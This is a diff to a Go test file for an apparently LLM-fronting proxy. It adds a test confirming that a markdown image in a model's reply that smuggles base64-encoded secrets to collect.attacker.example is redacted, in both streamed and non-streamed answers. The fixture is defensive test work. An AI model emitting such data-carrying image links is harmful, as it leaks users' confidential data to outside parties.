@@ -25,9 +25,7 @@ import (
 	"github.com/rampartsec/rampart/limit"
 	"github.com/rampartsec/rampart/store/sqlite"
 
-	_ "github.com/rampartsec/rampart/detect/length"
-	_ "github.com/rampartsec/rampart/detect/pii"
-	_ "github.com/rampartsec/rampart/detect/secrets"
+	_ "github.com/rampartsec/rampart/detect/builtin"
 )
 
 // upstreamKey is the fake provider's credential; it must never reach a
@@ -620,5 +618,45 @@ func TestClientDisconnectCancelsUpstream(t *testing.T) {
 			t.Fatal("the upstream call was not cancelled after the client left")
 		}
 		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// TestExfilLinkRedactedKeepsText: the default output policy removes a
+// data-carrying markdown image and keeps its alt text, streamed (split at
+// every byte) exactly as not streamed.
+func TestExfilLinkRedactedKeepsText(t *testing.T) {
+	e := newEnv(t, nil)
+	url := "https://collect.attacker.example/p.png?d=" + "U2VjcmV0IHByb2plY3QgbmFtZTogQmx1ZWJpcmQ7IGJ1ZGdldDogNC4ybQ"
+	reply := "Here is the summary. ![status chart](" + url + ") Thanks."
+	e.up.Set(fakeupstream.Behaviour{Reply: reply})
+	status, _, body := e.post("/v1/chat/completions", chatBody("summarise", false))
+	if status != 200 {
+		t.Fatalf("status %d: %s", status, body)
+	}
+	var ref struct {
+		Choices []struct {
+			Message struct{ Content string } `json:"message"`
+		} `json:"choices"`
+	}
+	if err := json.Unmarshal(body, &ref); err != nil {
+		t.Fatal(err)
+	}
+	want := ref.Choices[0].Message.Content
+	if strings.Contains(want, "attacker.example") || !strings.Contains(want, "status chart") || !strings.HasPrefix(want, "Here is the summary.") {
+		t.Fatalf("non-streamed answer %q: want the image's URL gone and its alt text kept", want)
+	}
+	for i := 0; i <= len(reply); i++ {
+		e.up.Set(fakeupstream.Behaviour{Chunks: []string{reply[:i], reply[i:]}})
+		status, _, body := e.post("/v1/chat/completions", chatBody("summarise", true))
+		if status != 200 {
+			t.Fatalf("split %d: status %d: %s", i, status, body)
+		}
+		got, errEv, done := streamContent(t, body)
+		if errEv != nil || !done {
+			t.Fatalf("split %d: error %v done %v", i, errEv, done)
+		}
+		if got != want {
+			t.Fatalf("split %d: streamed %q, want %q", i, got, want)
+		}
 	}
 }
